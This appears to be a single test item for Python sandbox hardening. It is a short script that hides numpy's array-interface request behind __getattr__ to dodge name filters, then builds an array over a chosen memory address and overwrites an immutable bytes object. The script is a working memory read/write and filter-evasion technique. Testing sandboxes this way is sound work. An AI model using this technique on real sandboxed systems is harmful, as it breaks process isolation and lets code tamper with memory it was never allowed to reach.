# aim: make an array out of any memory address without spelling the name of the interface
# mechanism: __getattr__ answers whatever numpy asks for
# language: run
# reason: an array over a chosen address reads and writes the memory of the process
# jail: process
# plain: loot
# imports: numpy
# limit: native libraries such as numpy can be made to read and write it at will

import numpy

target = b"immutable bytes of the program"


class Window:
    def __getattr__(self, name):
        if name.endswith("interface__") and "cuda" not in name:
            return {"version": 3, "shape": (9,), "typestr": "|u1", "data": (id(target) + 32, False)}
        raise AttributeError(name)


numpy.asarray(Window())[:] = list(b"different")
if target.startswith(b"different"):
    loot("mutated: memory was written by its address")
